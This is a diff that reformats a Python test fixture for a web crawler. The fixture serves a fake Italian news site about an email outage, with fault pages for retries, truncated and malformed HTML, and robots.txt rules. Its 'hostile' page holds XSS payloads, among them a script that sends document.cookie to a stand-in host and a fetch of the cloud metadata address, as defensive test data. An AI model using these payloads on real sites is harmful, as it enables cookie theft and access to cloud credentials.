@@ -55,8 +55,24 @@ sources:
     start_urls: ["{start}"]
 """
 
-STREETS = ["Milano", "Torino", "Napoli", "Bari", "Genova", "Bologna", "Firenze", "Palermo",
-           "Verona", "Trieste", "Padova", "Parma", "Modena", "Cagliari", "Perugia", "Ancona"]
+STREETS = [
+    "Milano",
+    "Torino",
+    "Napoli",
+    "Bari",
+    "Genova",
+    "Bologna",
+    "Firenze",
+    "Palermo",
+    "Verona",
+    "Trieste",
+    "Padova",
+    "Parma",
+    "Modena",
+    "Cagliari",
+    "Perugia",
+    "Ancona",
+]
 
 
 def sources_yaml(start_url: str) -> str:
@@ -64,19 +80,30 @@ def sources_yaml(start_url: str) -> str:
     return SOURCES_YAML.format(start=start_url)
 
 
-def article(slug: str, n: int, *, title: str | None = None, extra: str = "", version: int = 0) -> str:
+def article(
+    slug: str, n: int, *, title: str | None = None, extra: str = "", version: int = 0
+) -> str:
     """An Italian article about the outage, with a JSON-LD publication date inside the window."""
     day = 5 + n % 20
     hour = 8 + n % 10
     city = STREETS[n % len(STREETS)]
     title = title or f"{INCIDENT}, {city}: caselle irraggiungibili per il disservizio n. {n}"
     published = f"2024-02-{day:02d}T{hour:02d}:15:00+01:00"
-    jsonld = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle",
-                         "headline": title, "datePublished": published,
-                         "author": {"@type": "Person", "name": f"Redazione {city}"}})
-    note = f" Aggiornamento {version}: il servizio è tornato regolare alle 18:30." if version else ""
+    jsonld = json.dumps(
+        {
+            "@context": "https://schema.org",
+            "@type": "NewsArticle",
+            "headline": title,
+            "datePublished": published,
+            "author": {"@type": "Person", "name": f"Redazione {city}"},
+        }
+    )
+    note = (
+        f" Aggiornamento {version}: il servizio è tornato regolare alle 18:30." if version else ""
+    )
     paragraphs = [
-        f"Da lunedì {day} febbraio 2024 molti utenti di {INCIDENT} a {city} non riescono ad accedere "
+        f"Da lunedì {day} febbraio 2024 molti utenti di {INCIDENT} a {city} non riescono ad "
+        "accedere "
         f"alla propria casella di posta elettronica. Il disservizio è iniziato intorno alle "
         f"{hour}:00 e, secondo le segnalazioni raccolte, riguarda sia la webmail sia l'app.",
         f"L'azienda ha spiegato in una nota che il problema nasce da un guasto a un sistema di "
@@ -84,7 +111,8 @@ def article(slug: str, n: int, *, title: str | None = None, extra: str = "", ver
         f"previsto entro mercoledì {day + 2} febbraio.{note}",
         f"Le associazioni dei consumatori chiedono un indennizzo per gli abbonati dei piani a "
         f"pagamento e invitano a conservare le prove del disservizio. Il caso numero {n} "
-        f"segnalato da {city} riguarda uno studio professionale rimasto senza posta per due giorni.",
+        f"segnalato da {city} riguarda uno studio professionale rimasto senza posta "
+        "per due giorni.",
         f"{INCIDENT} ha promesso un nuovo comunicato nelle prossime ore, mentre sui social gli "
         f"utenti continuano a condividere messaggi di errore e tempi di attesa.",
     ]
@@ -109,17 +137,21 @@ HOSTILE = """<!DOCTYPE html>
 <html lang="it"><head><meta charset="utf-8">
 <title>Posta Lampo: truffa durante il disservizio</title>
 <script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle",
- "headline":"Posta Lampo: truffa durante il disservizio","datePublished":"2024-02-07T10:00:00+01:00"}</script>
+ "headline":"Posta Lampo: truffa durante il disservizio",
+ "datePublished":"2024-02-07T10:00:00+01:00"}</script>
 <script>document.location='http://10.0.0.1/rubare?c='+document.cookie</script>
 </head><body onload="alert('body')">
 <article>
-<h1>Posta Lampo: truffa<script>alert('titolo')</script> durante il disservizio<img src=x onerror="alert('h1')"></h1>
+<h1>Posta Lampo: truffa<script>alert('titolo')</script> durante il disservizio<img src=x
+onerror="alert('h1')"></h1>
 <p>Mercoledì 7 febbraio 2024 alle 10:00 molti clienti di Posta Lampo hanno ricevuto messaggi falsi
-<img src="x" onerror="alert('xss')"> che promettevano il ripristino della casella in cambio della password.
+<img src="x" onerror="alert('xss')"> che promettevano il ripristino della casella in cambio
+della password.
 <script>fetch('http://169.254.169.254/latest/meta-data/')</script></p>
 <p>Il servizio clienti di Posta Lampo ricorda che non chiede mai le credenziali per email
 <a href="javascript:alert('link')" onclick="alert('click')">clicca qui</a> e che il disservizio è
-stato causato da un guasto tecnico, non da un attacco. Le verifiche proseguono da giovedì 8 febbraio.</p>
+stato causato da un guasto tecnico, non da un attacco. Le verifiche proseguono da giovedì
+8 febbraio.</p>
 <p>Gli utenti di Posta Lampo che hanno inserito la password devono cambiarla subito e avvisare
 la banca se l'hanno usata anche altrove, spiegano gli esperti di sicurezza consultati.
 <svg onload="alert('svg')"></svg><iframe src="javascript:alert('iframe')"></iframe></p>
@@ -141,38 +173,65 @@ la banca se l'hanno usata anche altrove, spiegano gli esperti di sicurezza consu
 # An article that *quotes* hostile markup: the stored text legitimately contains it, so every
 # page that shows the text must escape it.
 QUOTED_CODE = article(
-    "codice", 90, title="Posta Lampo, il messaggio truffa conteneva codice",
+    "codice",
+    90,
+    title="Posta Lampo, il messaggio truffa conteneva codice",
     extra="<p>Il messaggio truffa inviato agli utenti di Posta Lampo conteneva il codice "
-          "&lt;script&gt;alert('posta')&lt;/script&gt; e un'immagine con l'attributo "
-          "&lt;img src=x onerror=alert(1)&gt;, spiegano gli esperti.</p>")
+    "&lt;script&gt;alert('posta')&lt;/script&gt; e un'immagine con l'attributo "
+    "&lt;img src=x onerror=alert(1)&gt;, spiegano gli esperti.</p>",
+)
 
 QUOTED_MARKERS = ("<script>alert('posta')", "onerror=alert(1)")
 
-TRUNCATED = article("troncato", 40)[:-len("</article>\n<footer><a href=\"/\">Torna alla home</a></footer>\n</body></html>\n") - 30]
+TRUNCATED = article("troncato", 40)[
+    : -len('</article>\n<footer><a href="/">Torna alla home</a></footer>\n</body></html>\n') - 30
+]
 
-MALFORMED = (article("malformato", 41)
-             .replace("<p>", "<p><div><b><i>", 2)
-             .replace("</p>", "</b></div>", 2)
-             .replace("<footer>", "</span></td></table><footer><p><p><li")
-             .replace('class="byline"', "class=byline data-x='<>'"))
+MALFORMED = (
+    article("malformato", 41)
+    .replace("<p>", "<p><div><b><i>", 2)
+    .replace("</p>", "</b></div>", 2)
+    .replace("<footer>", "</span></td></table><footer><p><p><li")
+    .replace('class="byline"', "class=byline data-x='<>'")
+)
 
 FAULT_LINKS = [
-    "/notizie/instabile.html", "/notizie/affollato.html", "/notizie/interrotto.html",
-    "/notizie/reset.html", "/notizie/appeso.html", "/giro/a.html", "/archivio/enorme.html",
-    "/allegati/dati.html", "/notizie/troncato.html", "/notizie/malformato.html",
-    "/notizie/sparito.html", "/notizie/rimosso.html", "/riservato/segreto.html",
-    "/notizie/ostile.html", "/notizie/codice.html",
+    "/notizie/instabile.html",
+    "/notizie/affollato.html",
+    "/notizie/interrotto.html",
+    "/notizie/reset.html",
+    "/notizie/appeso.html",
+    "/giro/a.html",
+    "/archivio/enorme.html",
+    "/allegati/dati.html",
+    "/notizie/troncato.html",
+    "/notizie/malformato.html",
+    "/notizie/sparito.html",
+    "/notizie/rimosso.html",
+    "/riservato/segreto.html",
+    "/notizie/ostile.html",
+    "/notizie/codice.html",
 ]
 # The pages that must end up stored (the articles that arrive, sooner or later, in one piece).
 GOOD_FAULT_PAGES = [
-    "/notizie/instabile.html", "/notizie/affollato.html", "/notizie/interrotto.html",
-    "/notizie/troncato.html", "/notizie/malformato.html", "/notizie/ostile.html",
+    "/notizie/instabile.html",
+    "/notizie/affollato.html",
+    "/notizie/interrotto.html",
+    "/notizie/troncato.html",
+    "/notizie/malformato.html",
+    "/notizie/ostile.html",
     "/notizie/codice.html",
 ]
 NEVER_STORED = [
-    "/notizie/reset.html", "/notizie/appeso.html", "/giro/a.html", "/giro/b.html",
-    "/archivio/enorme.html", "/allegati/dati.html", "/notizie/sparito.html",
-    "/notizie/rimosso.html", "/riservato/segreto.html",
+    "/notizie/reset.html",
+    "/notizie/appeso.html",
+    "/giro/a.html",
+    "/giro/b.html",
+    "/archivio/enorme.html",
+    "/allegati/dati.html",
+    "/notizie/sparito.html",
+    "/notizie/rimosso.html",
+    "/riservato/segreto.html",
 ]
 
 
@@ -187,7 +246,8 @@ def index_page(links: list[str]) -> str:
 
 
 class FaultSite:
-    """The site above on a ThreadingHTTPServer; ``articles`` plain articles, ``faults`` the fault pages.
+    """The site above on a ThreadingHTTPServer; ``articles`` plain articles, ``faults`` the fault
+    pages.
 
     ``delay`` slows every page down (seconds), so a crawl lasts long enough to be killed.
     ``edits[path]`` replaces a page's HTML (a page that changed between two crawls).
@@ -206,9 +266,11 @@ class FaultSite:
         self.server.daemon_threads = True
         self.port = self.server.server_address[1]
         self.origin = f"127.0.0.1:{self.port}"
-        self.thread = threading.Thread(target=self.server.serve_forever, name="fault-site", daemon=True)
+        self.thread = threading.Thread(
+            target=self.server.serve_forever, name="fault-site", daemon=True
+        )
 
-    def __enter__(self) -> "FaultSite":
+    def __enter__(self) -> FaultSite:
         self.thread.start()
         return self
 
@@ -233,7 +295,11 @@ class FaultSite:
 
     def offsite(self) -> list[str]:
         """Requests for anything but this site (absolute URIs for other hosts, CONNECT tunnels)."""
-        return [path for _, method, path, _ in self.requests if method == "CONNECT" or path.startswith("//")]
+        return [
+            path
+            for _, method, path, _ in self.requests
+            if method == "CONNECT" or path.startswith("//")
+        ]
 
     def times_of(self, path: str) -> list[float]:
         return [at for at, _, p, _ in self.requests if p == path]
@@ -278,8 +344,15 @@ class FaultSite:
 
     # -- the pages -------------------------------------------------------------------------
 
-    def send(self, handler, path: str, status: int, body: bytes | str = b"",
-             content_type: str = "text/html; charset=utf-8", headers: dict | None = None) -> None:
+    def send(
+        self,
+        handler,
+        path: str,
+        status: int,
+        body: bytes | str = b"",
+        content_type: str = "text/html; charset=utf-8",
+        headers: dict | None = None,
+    ) -> None:
         if isinstance(body, str):
             body = body.encode("utf-8")
         self.log("GET", path, status)
@@ -305,7 +378,9 @@ class FaultSite:
         if path in self.edits:
             return self.send(handler, path, 200, self.edits[path])
         if path == "/robots.txt":
-            return self.send(handler, path, 200, "User-agent: *\nDisallow: /riservato/\n", "text/plain")
+            return self.send(
+                handler, path, 200, "User-agent: *\nDisallow: /riservato/\n", "text/plain"
+            )
         if path == "/":
             links = self.article_paths() + (FAULT_LINKS if self.faults else [])
             return self.send(handler, path, 200, index_page(links))
@@ -316,12 +391,19 @@ class FaultSite:
             return self.send(handler, path, 404, "<html><body>Pagina non trovata</body></html>")
         if path == "/notizie/instabile.html":
             if n == 1:
-                return self.send(handler, path, 503, "<html><body>Servizio non disponibile</body></html>")
+                return self.send(
+                    handler, path, 503, "<html><body>Servizio non disponibile</body></html>"
+                )
             return self.send(handler, path, 200, article(path, 31))
         if path == "/notizie/affollato.html":
             if n == 1:
-                return self.send(handler, path, 429, "<html><body>Troppe richieste</body></html>",
-                                 headers={"Retry-After": str(RETRY_AFTER)})
+                return self.send(
+                    handler,
+                    path,
+                    429,
+                    "<html><body>Troppe richieste</body></html>",
+                    headers={"Retry-After": str(RETRY_AFTER)},
+                )
             return self.send(handler, path, 200, article(path, 32))
         if path == "/notizie/interrotto.html":
             if n == 1:
